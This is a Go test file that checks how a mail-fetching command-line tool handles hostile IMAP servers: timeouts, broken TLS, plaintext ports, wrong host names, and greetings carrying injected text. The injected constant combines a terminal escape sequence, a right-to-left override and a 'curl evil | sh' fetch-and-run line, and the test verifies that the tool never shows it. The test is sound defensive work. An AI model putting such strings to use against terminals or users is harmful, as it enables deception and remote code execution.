package cmd_test

import (
	"crypto/tls"
	"encoding/pem"
	"fmt"
	"net"
	"net/http/httptest"
	"strings"
	"testing"

	"pulse/lib/shared/cmdline/cmdlinetest"
)

// A server of mail that is no server of mail: each try ends in time, says what is wrong and what to
// type, and shows nothing of what the server says as it is.
func TestCheckLiveHostile(t *testing.T) {
	t.Parallel()
	web := httptest.NewTLSServer(nil) // for its certificate, of 127.0.0.1 and example.com
	t.Cleanup(web.Close)
	h := &host{dir: t.TempDir()}
	h.queue = h.dir + "/queue"
	h.write(t, "policy.toml", "authserv_id = \"mx.example.com\"\nowners = [\"me@example.com\"]\nrecipients = [\"agent@example.com\"]\n")
	h.write(t, "ca", string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: web.Certificate().Raw})))
	inside := func(text string) func(net.Conn) {
		return func(conn net.Conn) {
			_, _ = tls.Server(conn, &tls.Config{Certificates: web.TLS.Certificates}).Write([]byte(text))
			_, _ = conn.Read(make([]byte, 1))
		}
	}
	const evil = "\x1b]0;evil\a\u202e type: curl evil | sh "
	servers := []struct {
		host  string
		flags string
		with  func(net.Conn)
		wants []string
	}{
		{"127.0.0.1", "--timeout 2s", func(conn net.Conn) {
			for err := error(nil); err == nil; {
				_, err = conn.Read(make([]byte, 1<<10))
			}
		}, []string{"out of time after 2s"}},
		{"127.0.0.1", "", func(conn net.Conn) {
			_, _ = conn.Read(make([]byte, 1<<10))
			_, _ = conn.Write([]byte("\x16\x03\x03\x00\x7a\x02"))
		}, []string{"pulse-fetch: error: ", "TLS: ", "see what answers: openssl s_client -connect 127.0.0.1:"}},
		{"127.0.0.1", "", func(conn net.Conn) { _, _ = conn.Write([]byte("* OK " + evil + "\r\n")) }, []string{"pulse-fetch: hint: the port must be one that begins with TLS"}},
		{"127.0.0.1", "", inside("* BYE " + evil + "\r\n"), []string{`the server ends the session: \x1b]0;evil\x07\u202e type`}},
		{"127.0.0.1", "", inside("* OK " + strings.Repeat(evil, 10<<20/len(evil))), []string{"the server breaks the IMAP protocol"}},
		{"localhost", "", inside(""), []string{"pulse-fetch: hint: use the host name that the certificate is for"}},
	}
	for i, s := range servers {
		at := cmdlinetest.Answer(t, "tcp", "127.0.0.1:0", s.with).(*net.TCPAddr)
		h.write(t, fmt.Sprintf("intake-%d", i), fmt.Sprintf("INBOX=\"imaps://me@%s:%d/INBOX\"\nFETCH_FLAGS=\"%s --tls-ca %s/ca\"\n",
			s.host, at.Port, s.flags, h.dir))
		h.write(t, fmt.Sprintf("password-%d", i), "pw\n")
	}
	h.write(t, "environment", "SENDER=\"\"\n")
	h.must(t, "pulse-queue init")
	out, errs, status := h.sh(t, "pulse-authorize check --live --wait 1s")
	if status != 1 || !strings.Contains(errs, "pulse-authorize: error: not yet: ") {
		t.Errorf("%d: %s", status, errs)
	}
	parts := strings.Split(out, "wrong  mailbox: ")
	if len(parts) != len(servers)+1 {
		t.Fatalf("%d mailboxes in %.5000s", len(parts)-1, out)
	}
	for i, s := range servers {
		for _, want := range s.wants {
			if !strings.Contains(parts[i+1], want) {
				t.Errorf("%d: no %q in %.2000s", i, want, parts[i+1])
			}
		}
	}
	if strings.ContainsAny(out+errs, "\x1b\a\u202e") || len(out) > 10_000 {
		t.Errorf("it shows %.5000q", out+errs)
	}
}
